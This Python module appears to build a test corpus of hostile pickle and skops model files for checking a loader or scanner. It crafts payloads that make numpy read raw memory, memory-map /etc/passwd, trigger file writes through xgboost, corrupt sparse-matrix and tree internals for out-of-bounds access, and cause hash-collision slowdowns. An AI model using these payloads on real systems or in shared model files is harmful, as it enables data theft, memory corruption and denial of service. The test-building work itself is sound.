"""Hostile model files whose names are all allowed, and whose contents are not what they seem.

Added to the corpus of `attacks`. The harm comes when numpy looks at an object, when scikit-learn
calls what it was given, or when compiled code believes a number.
"""

from __future__ import annotations

import json
import pickle
import struct
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
from attacks import (
    ATTACKS,
    RIDGE,
    TRANSFORMER,
    Hostile,
    archive,
    attack,
    by_skops,
    pickles,
    skops_parts,
    table,
)
from opcodes import START, Raw, call, made, named, push, text, whole
from scipy import sparse
from sklearn.ensemble import (
    GradientBoostingClassifier,
    HistGradientBoostingClassifier,
    RandomForestClassifier,
)
from sklearn.linear_model import LogisticRegression, Ridge
from sklearn.metrics import accuracy_score
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, OrdinalEncoder

__all__ = ["ATTACKS"]

# ---------------------------------------------------------------- memory by the name of a key

HERE = np.array([1.0, 2.0, 3.0])  # the address is one of our own: nothing foreign is read
MEMORY = {"shape": [3], "typestr": "<f8", "version": 3, "data": [HERE.ctypes.data, True]}
READER = MEMORY | {"shape": (3,), "data": (HERE.ctypes.data, True)}
BUNCH = ("sklearn.utils._bunch", "Bunch")


def subtracts(values: Raw) -> bytes:
    """A pipeline that subtracts the table from `values`: numpy looks at what they are."""
    function = named("numpy", "subtract")
    bound = Raw(
        call("functools", "partial", function) + push((function, (values,), {}, None)) + b"b"
    )
    first = made(
        *TRANSFORMER,
        func=bound,
        inverse_func=None,
        validate=False,
        kw_args=None,
        accept_sparse=False,
        feature_names_out=None,
        n_features_in_=3,
    )
    ridge = made(*RIDGE, coef_=push(1.0), intercept_=0.0, solver="lsqr", n_features_in_=3)
    steps = [("first", first), ("ridge", ridge)]
    return whole(
        made(
            "sklearn.pipeline",
            "Pipeline",
            steps=steps,
            memory=None,
            verbose=False,
            transform_input=None,
        )
    )


for _key in ("__array_interface__", "__array_struct__", "__array__", "__class__", "__len__"):
    pickles(f"state with the key {_key}", lambda c, k=_key: subtracts(made(*RIDGE, **{k: READER})))
pickles(
    "bunch with the key __array_interface__",
    lambda c: subtracts(
        Raw(named(*BUNCH) + b")\x81" + text("__array_interface__") + push(READER) + b"s")
    ),
)
pickles(
    "sparse matrix with the key __array_interface__",
    lambda c: subtracts(made("scipy.sparse", "csr_matrix", __array_interface__=READER)),
)


def skops_node(content: Any, loader: str, module: str, name: str, number: int = 1) -> dict:
    return {
        "content": content,
        "__class__": name,
        "__module__": module,
        "__loader__": loader,
        "__id__": number,
    }


def as_json(value: Any, number: int = 1) -> dict:
    return skops_node(json.dumps(value), "JsonNode", "builtins", "str", number)


def several(values: list[dict], number: int, kind: str = "tuple") -> dict:
    return skops_node(values, f"{kind.title()}Node", "builtins", kind, number)


def attribute(node: dict, key: str = "func") -> Callable[[dict[str, Any]], None]:
    """Put a node of skops under an attribute of the model."""

    def change(schema: dict[str, Any]) -> None:
        schema["content"]["content"][key] = node

    return change


def skops_attribute(name: str, build: Callable[[Path], dict], key: str = "func") -> None:
    skops_parts(name, lambda c: archive(by_skops(attribute(build(c), key))))


def skops_reader(state: dict) -> dict:
    return skops_node(state, "ObjectNode", *RIDGE, number=70)


skops_attribute(
    "skops state with a dunder key",
    lambda c: skops_reader(as_json({"__array_interface__": MEMORY}, 71)),
)


@attack
def skops_array_of_what_reads_memory(canary: Path) -> Hostile:
    """Numpy looks at the object while skops still builds the array."""
    keys = {
        "content": {"__array_interface__": as_json(MEMORY, 82)},
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": 80,
        "key_types": several([skops_node(None, "TypeNode", "builtins", "str", 81)], 83, "list"),
    }
    array = {
        "content": [skops_reader(keys)],
        "type": "json",
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "__id__": 84,
        "shape": several([as_json(1, 85), as_json(3, 86)], 87),
    }
    return Hostile("model.skops", archive(by_skops(attribute(array))))


# ---------------------------------------------------------------- calls by skops

skops_attribute(
    "skops memory map of a file",
    lambda c: skops_node(
        several([as_json("/etc/passwd", 90), as_json("u1", 91), as_json("r", 92)], 93),
        "ConstructorFromReduceNode",
        "numpy",
        "memmap",
    ),
)
skops_attribute(
    "skops class called with a list",
    lambda c: skops_node([as_json("/etc/passwd", 90)], "ListNode", "numpy", "memmap"),
)
for _class in (("xgboost.core", "Booster"), RIDGE, ("functools", "partial")):
    skops_attribute(
        f"skops call of {_class[1]}",
        lambda c, k=_class: skops_node(
            several([as_json({}, 90)], 93), "ConstructorFromReduceNode", *k
        ),
    )


def skops_partial(function: dict) -> dict:
    parts = {
        "func": function,
        "args": several([], 60),
        "kwds": as_json(None, 62),
        "namespace": as_json(None, 61),
    }
    parts["kwds"] = {
        "content": {},
        "key_types": several([], 63, "list"),
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": 64,
    }
    return skops_node(parts, "PartialNode", "functools", "partial", 65)


skops_attribute(
    "skops partial of a class",
    lambda c: skops_partial(skops_node(None, "TypeNode", "xgboost.core", "Booster", 66)),
)
skops_attribute(
    "skops partial of an object",
    lambda c: skops_partial(
        skops_node(as_json({}, 67), "ObjectNode", "sklearn.metrics._scorer", "_Scorer", 66)
    ),
)
skops_attribute(
    "skops keys made by a class",
    lambda c: {
        "content": {"/etc/passwd": as_json(1, 50)},
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": 51,
        "key_types": several(
            [skops_node(None, "TypeNode", "xgboost.core", "Booster", 52)], 53, "list"
        ),
    },
    "kw_args",
)

# ---------------------------------------------------------------- any method by name


def constant(value: Any) -> list[FunctionTransformer]:
    """Steps that turn any table into this value."""
    objects = partial(np.multiply, np.array(1, dtype=object))
    settings = {"initial": value, "where": False}
    return [
        FunctionTransformer(objects),
        FunctionTransformer(np.ravel),
        FunctionTransformer(np.max, kw_args=settings),
    ]


@attack
def scorer_that_saves_a_booster(canary: Path) -> Hostile:
    """A scorer made while predicting calls `save_model`: compiled code writes the file."""
    import xgboost
    from sklearn.metrics import make_scorer, pairwise_distances

    objects = np.empty(1, dtype=object)
    objects[0] = xgboost.XGBRegressor(n_estimators=1).fit(np.eye(3), [0, 1, 0])
    paths = np.array([str(canary) + ".json"], dtype=object)
    steps = [
        *constant(accuracy_score),
        FunctionTransformer(partial(make_scorer, response_method=["save_model"])),
        FunctionTransformer(
            partial(pairwise_distances, objects, paths), kw_args={"y_true": np.array([1])}
        ),
        Ridge().fit(*table()),
    ]
    return Hostile("model.pkl", pickle.dumps(make_pipeline(*steps)))


for _function in ("make_scorer", "get_scorer", "check_scoring"):
    pickles(
        f"function {_function}",
        lambda c, f=_function: whole(made(*TRANSFORMER, func=named("sklearn.metrics._scorer", f))),
    )


@attack
def scorer_as_a_metric(canary: Path) -> Hostile:
    from sklearn.metrics import make_scorer

    model = KNeighborsClassifier(algorithm="brute").fit(*table())
    model.metric = model.effective_metric_ = make_scorer(accuracy_score)
    return Hostile("model.pkl", pickle.dumps(model))


# ---------------------------------------------------------------- numbers that point outside


def sparse_coefficients(name: str, bend: Callable[[], Any]) -> None:
    def build(canary: Path) -> bytes:
        model = LogisticRegression().fit(*table())
        model.coef_ = bend()
        return pickle.dumps(model)

    pickles(name, build)


def bent(kind: str, **parts: Any) -> Any:
    matrix = getattr(sparse, kind)(np.ones((1, 3)))
    vars(matrix).update(parts)
    return matrix


FAR = np.array([0, 1, 2**30], dtype=np.int32)
for _kind in ("coo_matrix", "coo_array"):
    sparse_coefficients(
        f"{_kind} of far rows",
        lambda k=_kind: bent(k, coords=(FAR, np.array([0, 1, 2], dtype=np.int32))),
    )
sparse_coefficients("coo_matrix of fewer numbers", lambda: bent("coo_matrix", data=np.ones(1)))


def lists(*items: list) -> np.ndarray:
    array = np.empty(len(items), dtype=object)
    array[:] = items
    return array


sparse_coefficients("lil_matrix of far columns", lambda: bent("lil_matrix", rows=lists([0, 2**30])))
sparse_coefficients("lil_matrix of fewer rows", lambda: bent("lil_matrix", _shape=(5, 3)))
pickles(
    "dok_matrix of far keys",
    lambda c: whole(made("scipy.sparse", "dok_matrix", _shape=(1, 3), _dict={(2**40, 0): 1.0})),
)
sparse_coefficients(
    "dia_matrix of more offsets",
    lambda: bent("dia_matrix", offsets=np.arange(2**10, dtype=np.int32)),
)
sparse_coefficients(
    "bsr_matrix of far columns",
    lambda: bent("bsr_matrix", indices=np.array([2**30], dtype=np.int32)),
)
sparse_coefficients(
    "csr_matrix with a check of its own",
    lambda: bent("csr_matrix", indices=FAR, check_format=partial(np.add, 1)),
)


def wider(model: Any, part: Callable[[Any], Any]) -> bytes:
    """A model whose trees were fitted on thousands of columns, and that says it takes three."""
    numbers, outcome = table()
    many = np.zeros((len(numbers), 300_000), dtype=np.float32)
    many[:, -1] = outcome
    model.fit(many, outcome)
    model.n_features_in_ = 3
    for tree in part(model):
        tree.n_features_in_ = 3
    return pickle.dumps(model)


def without_width(model: Any) -> list[Any]:
    for tree in model.estimators_:
        del tree.n_features_in_
    return []


pickles(
    "forest of wide trees",
    lambda c: wider(RandomForestClassifier(3, max_features=None), lambda m: m.estimators_),
)
pickles(
    "boosting of wide trees",
    lambda c: wider(
        GradientBoostingClassifier(n_estimators=2), lambda m: m.estimators_.ravel()[:1]
    ),
)
pickles("wide trees without a width", lambda c: wider(RandomForestClassifier(3), without_width))


@attack
def boosting_of_more_trees_than_columns(canary: Path) -> Hostile:
    """Compiled code writes the answer of each tree of a step to a column of its own."""
    model = GradientBoostingClassifier(n_estimators=2).fit(*table())
    model.estimators_ = np.repeat(model.estimators_, 100_000, axis=1)
    return Hostile("model.pkl", pickle.dumps(model))


def stated(**changes: Any) -> bytes:
    """A forest whose tree has another state."""
    model = RandomForestClassifier(1, random_state=0).fit(*table())
    old = model.estimators_[0].tree_
    tree = type(old)(3, np.array([2]), 1)
    tree.__setstate__(old.__getstate__() | changes)
    model.estimators_[0].tree_ = tree
    return pickle.dumps(model)


def without_nodes() -> bytes:
    model = RandomForestClassifier(1, random_state=0).fit(*table())
    state = model.estimators_[0].tree_.__getstate__()
    return stated(node_count=0, nodes=state["nodes"][:0], values=state["values"][:0])


pickles("tree without nodes", lambda c: without_nodes())
pickles("tree that is deeper than it says", lambda c: stated(max_depth=0))


def boosted(change: Callable[[Any], None], categories: bool = False) -> bytes:
    numbers, outcome = table()
    if categories:
        numbers = numbers.copy()
        numbers[:, 2] = outcome * 3
    model = HistGradientBoostingClassifier(
        max_iter=1, categorical_features=[2] if categories else None
    ).fit(numbers, outcome)
    change(model)
    return pickle.dumps(model)


def bend_categories(model: Any) -> None:
    """A node that asks for categories in a model that has none."""
    nodes = model._predictors[0][0].nodes
    nodes["is_categorical"][0] = 1
    model._predictors[0][0].raw_left_cat_bitsets = np.zeros((1, 8), dtype=np.uint32)


def narrow_mapper(model: Any) -> None:
    model._bin_mapper.is_categorical_ = np.zeros(0, dtype=np.uint8)


def narrow_bitsets(model: Any) -> None:
    tree = model._predictors[0][0]
    tree.raw_left_cat_bitsets = tree.raw_left_cat_bitsets[:, :0]


def narrow_columns(model: Any) -> None:
    model._preprocessor = FunctionTransformer(np.ravel)


pickles("boosted tree of categories that are not there", lambda c: boosted(bend_categories))
pickles("boosted trees with a narrow mapper", lambda c: boosted(narrow_mapper, True))
pickles("boosted trees with narrow bitsets", lambda c: boosted(narrow_bitsets, True))
pickles("boosted trees with other columns", lambda c: boosted(narrow_columns, True))

# ---------------------------------------------------------------- hashing

PRIME = 2**61 - 1  # whole numbers that differ by it have the same hash
ALIKE = [k * PRIME for k in range(1, 60_001)]


def in_batches(start: bytes, items: list[bytes], end: bytes) -> bytes:
    """As a pickler writes: a thousand items at a time."""
    parts = [b"(" + b"".join(items[i : i + 900]) + end for i in range(0, len(items), 900)]
    return START + start + b"".join(parts) + b"."


def long(value: int) -> bytes:
    return pickle.dumps(value, protocol=2)[2:-1]


def number(real: float, imaginary: float) -> bytes:
    parts = b"(G" + struct.pack(">d", real) + b"G" + struct.pack(">d", imaginary) + b"t"
    return named("builtins", "complex") + parts + b"R"


LONGS = [long(value) for value in ALIKE]
pickles("keys of one hash", lambda c: in_batches(b"}", [k + b"N" for k in LONGS], b"u"))
pickles("elements of one hash", lambda c: in_batches(b"\x8f", LONGS, b"\x90"))
pickles(
    "frozen elements of one hash", lambda c: START + b"(" + b"".join(map(long, ALIKE)) + b"\x91."
)
pickles("set of a list of one hash", lambda c: whole(call("builtins", "set", ALIKE)))
pickles("memo of one hash", lambda c: b"N" + b"".join(b"p%d\n" % k for k in ALIKE) + b".")
pickles(
    "complex keys of one hash",
    lambda c: in_batches(b"}", [number(-1000003.0 * k, k) + b"N" for k in range(1, 60_001)], b"u"),
)


@attack
def categories_of_one_hash(canary: Path) -> Hostile:
    """The encoder makes a dictionary of its categories when it predicts."""
    encoder = OrdinalEncoder(handle_unknown="use_encoded_value", unknown_value=-1)
    encoder.fit(np.array([[1], [2]], dtype=object))
    encoder.categories_ = [np.array(ALIKE, dtype=object)] * 3
    encoder.n_features_in_ = 3
    objects = FunctionTransformer(partial(np.multiply, np.array(1, dtype=object)))
    objects.n_features_in_ = 3
    model = make_pipeline(objects, encoder, Ridge().fit(*table()))
    return Hostile("model.pkl", pickle.dumps(model))


skops_attribute(
    "skops keys of one hash",
    lambda c: {
        "content": {str(k): as_json(None, 40) for k in ALIKE},
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "__id__": 41,
        "key_types": several(
            [skops_node(None, "TypeNode", "builtins", "int", 42)] * len(ALIKE), 43, "list"
        ),
    },
    "kw_args",
)
skops_attribute(
    "skops elements of one hash",
    lambda c: several([as_json(k, 10**6 + i) for i, k in enumerate(ALIKE)], 44, "set"),
    "kw_args",
)
